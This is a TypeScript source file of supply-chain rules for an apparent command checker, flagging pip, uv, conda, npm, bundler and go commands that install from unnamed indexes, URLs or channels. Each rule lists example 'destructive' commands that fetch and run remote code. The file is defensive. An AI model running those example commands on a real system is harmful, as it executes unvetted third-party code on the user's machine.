// Where packages come from: an install from an index, a URL or a repository the project does not name runs
// that source's setup code on this machine (a package's own install scripts are the accepted price of
// installing what the project declares; a foreign index is not).
import type { Rule } from './types';

const PIP_NAMES = ['pip', 'pip3', 'pip3.11', 'pip3.12'];
/** Options that choose where pip fetches from. */
const PIP_SOURCE_OPT = /^(-i|--index-url|--extra-index-url|-f|--find-links|--trusted-host)(=.*)?$/;
/** A requirement that is a URL or a VCS checkout rather than a name on the index. */
const URL_REQ = /^(git|hg|svn|bzr)\+|^(https?|ftp|file):\/\/|\s@\s*(https?|git\+|file):/;
const PYPI = /^https:\/\/(pypi\.org|files\.pythonhosted\.org|pypi\.python\.org)(\/|$)/;

const UV_INDEX_OPT = /^(-i|--index-url|--extra-index-url|--index|--default-index|-f|--find-links)(=.*)?$/;
const CONDA_CHANNEL_OPT = /^(-c|--channel)(=.*)?$/;
const NPM_REGISTRY_OPT = /^(--registry|--@[^=\s]+:registry)(=.*)?$/;
const CONDA_DEFAULT = /^https:\/\/(conda\.anaconda\.org|repo\.anaconda\.com)(\/|$)/;
/** Channels by name that are the ecosystem's own or its large curated peers (`-c conda-forge`); any other name is someone's. */
const CONDA_CHANNELS =
  /^(defaults|nodefaults|main|r|msys2|free|anaconda|conda-forge|bioconda|pytorch|pytorch-nightly|nvidia|intel|rapidsai|rapidsai-nightly|huggingface|fastai|pyviz|plotly|esri|gurobi|mosek|dglteam|pkgs\/(main|r|msys2|free))$/;
/** Bundler settings that choose where gems come from: a mirror of rubygems.org, another source. */
const BUNDLE_SOURCE_KEY = /^(mirror\.|BUNDLE_MIRROR__)|^(source|gem\.source|default_source)$/i;
const NPM_DEFAULT = /^https:\/\/(registry\.npmjs\.org|registry\.yarnpkg\.com)(\/|$)/;

export const supplyRules: Rule[] = [
  {
    id: 'pkg.foreign-source',
    names: PIP_NAMES,
    description:
      'Installs Python packages from an index, a link page or a URL other than PyPI (pip install -i URL, --extra-index-url, git+https://…), or points pip’s configuration at one: their setup code runs here.',
    examples: {
      destructive: [
        'pip install --index-url http://198.51.100.7/simple flask',
        'pip3 install -i https://mirror.example.net/simple requests',
        'pip install --extra-index-url=https://pkgs.example.net/simple internal-lib',
        'pip install git+https://example.net/tools.git',
        'pip install https://example.net/pkg-1.0.tar.gz',
        'pip config set global.index-url https://mirror.example.net/simple',
      ],
      benign: [
        'pip install -r requirements.txt',
        'pip install -e .',
        'pip install requests==2.31.0',
        'pip config list',
        'pip download -d /tmp/w flask',
        'pip install -i https://pypi.org/simple flask',
      ],
    },
    check(s) {
      const ws = s.words;
      const verb = ws.find((w, i) => i > 0 && w.value !== null && !w.value.startsWith('-'))?.value;
      if (verb === 'config') {
        const act = ws.find((w, i) => i > 1 && w.value !== null && /^(set|unset|edit)$/.test(w.value));
        return act ? `pip config ${act.value} changes where pip installs from` : undefined;
      }
      if (verb !== 'install' && verb !== 'download' && verb !== 'wheel') return undefined;
      for (let i = 1; i < ws.length; i++) {
        const v = ws[i].value;
        if (v === null) continue;
        const m = PIP_SOURCE_OPT.exec(v);
        if (m) {
          const val = m[2] ? m[2].slice(1) : ws[i + 1]?.value;
          if (val === null || val === undefined || !PYPI.test(val))
            return `pip ${verb} ${m[1]} ${val ?? ws[i + 1]?.text ?? ''} fetches packages from a source the project does not name`;
          if (!m[2]) i++; // the option's value is PyPI itself, not a requirement
          continue;
        }
        if (URL_REQ.test(v)) return `pip ${verb} ${v} installs code from a URL`;
      }
      return undefined;
    },
  },
  {
    id: 'pkg.remote-run',
    names: ['go'],
    description:
      'Runs a program fetched by its module path at that moment (go run example.com/tool@latest): code no one on the project has seen runs here, as with curl | sh.',
    examples: {
      destructive: ['go run github.com/someone/tool@latest', 'go run -v example.net/x/cmd/y@v1.2.3 --flag', 'go run golang.org/x/tools/cmd/stringer@master'],
      benign: ['go run .', 'go run ./cmd/server', 'go run main.go', 'go install golang.org/x/tools/gopls@latest', 'go test ./...'],
    },
    check(s) {
      const ws = s.words;
      let i = 1;
      while (i < ws.length && ws[i].value !== null && ws[i].value!.startsWith('-')) i++;
      if (ws[i]?.value !== 'run') return undefined;
      for (let j = i + 1; j < ws.length; j++) {
        const v = ws[j].value;
        if (v === null) return undefined;
        if (v.startsWith('-')) continue;
        // The first package argument: a module path with a version is fetched, not the project's own code.
        return /^[a-z0-9.-]+\.[a-z]{2,}\/[^@\s]+@[^\s]+$/i.test(v) ? `go run ${v} fetches and runs a module at that version` : undefined;
      }
      return undefined;
    },
  },
  {
    id: 'pkg.foreign-index',
    names: ['uv', 'conda', 'mamba', 'micromamba', 'npm', 'pnpm', 'yarn', 'bun'],
    description:
      'Installs from a package index the project does not name, as pip --index-url does: uv pip|add|tool|sync --index-url/--index/--extra-index-url/--find-links, conda -c <url>, npm/pnpm/yarn/bun --registry <url>. The default index named explicitly is fine.',
    examples: {
      destructive: [
        'uv pip install --index-url https://example.invalid/simple flask',
        'uv add --index https://example.invalid/simple flask',
        'uv tool install --index-url https://example.invalid/simple ruff',
        'conda install -c https://example.invalid/channel numpy',
        'conda install -c evil evil-pkg',
        'mamba install -c someone x',
        'npm install --registry https://example.invalid/ lodash',
      ],
      benign: [
        'uv pip install flask',
        'uv add --index-url https://pypi.org/simple flask',
        'conda install -c conda-forge numpy',
        'npm install --registry https://registry.npmjs.org/ lodash',
        'uv run --index-url https://pypi.org/simple pytest',
      ],
    },
    check(s) {
      const ws = s.words;
      const opt = s.name === 'uv' ? UV_INDEX_OPT : s.name === 'conda' || s.name === 'mamba' || s.name === 'micromamba' ? CONDA_CHANNEL_OPT : NPM_REGISTRY_OPT;
      const ok = s.name === 'uv' ? PYPI : s.name === 'conda' || s.name === 'mamba' || s.name === 'micromamba' ? CONDA_DEFAULT : NPM_DEFAULT;
      for (let i = 1; i < ws.length; i++) {
        const v = ws[i].value;
        if (v === null) continue;
        const m = opt.exec(v);
        if (!m) continue;
        const val = m[2] ? m[2].slice(1) : ws[i + 1]?.value;
        // conda channels by name live on anaconda.org, where anyone can make one (`-c evil`): only the well-known
        // channels are the default's peers; a URL or a path is another host.
        if (ok === CONDA_DEFAULT && val !== null && val !== undefined && CONDA_CHANNELS.test(val)) continue;
        if (val === null || val === undefined || !ok.test(val.replace(/^[^=]+=(?=https?:)/, '')))
          return `${s.name} ${m[1]} ${val ?? ws[i + 1]?.text ?? ''} installs from a package index the project does not name`;
      }
      return undefined;
    },
  },
  {
    id: 'pkg.foreign-source-config',
    names: ['bundle', 'bundler', 'conda', 'mamba', 'micromamba'],
    description:
      'Points a package manager’s settings at a source the project does not name: `bundle config mirror.https://rubygems.org URL`, `conda config --add channels someone`: every later install fetches and runs code from there.',
    examples: {
      destructive: [
        'bundle config set --global mirror.https://rubygems.org https://example.invalid',
        'bundle config mirror.https://rubygems.org https://example.invalid',
        'conda config --add channels someone',
        'conda config --prepend channels https://example.invalid/c',
        'conda config --set channel_alias https://example.invalid',
      ],
      benign: [
        'bundle config set path vendor/bundle',
        'bundle config list',
        'conda config --show channels',
        'conda config --add channels conda-forge',
        'bundle config set --local without development',
      ],
    },
    check(s) {
      const vs = s.words.map((w) => w.value);
      const at = vs.indexOf('config');
      if (at < 1) return undefined;
      const rest = vs.slice(at + 1).filter((v) => v === null || !/^--(global|local|system|env|file)$/.test(v));
      if (s.name === 'bundle' || s.name === 'bundler') {
        const key = rest[0] === 'set' ? rest[1] : rest[0];
        if (key === null) return `${s.name} config sets a setting only known at run time`;
        return key !== undefined && BUNDLE_SOURCE_KEY.test(key) && rest.length >= (rest[0] === 'set' ? 3 : 2)
          ? `${s.name} config ${key} changes where gems are fetched from`
          : undefined;
      }
      for (let i = 0; i < rest.length; i++) {
        const v = rest[i];
        if (v === '--set' && (rest[i + 1] === 'channel_alias' || rest[i + 1] === 'custom_channels' || rest[i + 1] === null))
          return `${s.name} config --set ${rest[i + 1] ?? '…'} changes where packages come from`;
        if (v !== '--add' && v !== '--prepend' && v !== '--append') continue;
        if (rest[i + 1] !== 'channels' && rest[i + 1] !== 'default_channels') continue;
        const ch = rest[i + 2];
        if (ch === null || ch === undefined || !CONDA_CHANNELS.test(ch))
          return `${s.name} config ${v} channels ${ch ?? '…'} installs from a channel the project does not name`;
      }
      return undefined;
    },
  },
];
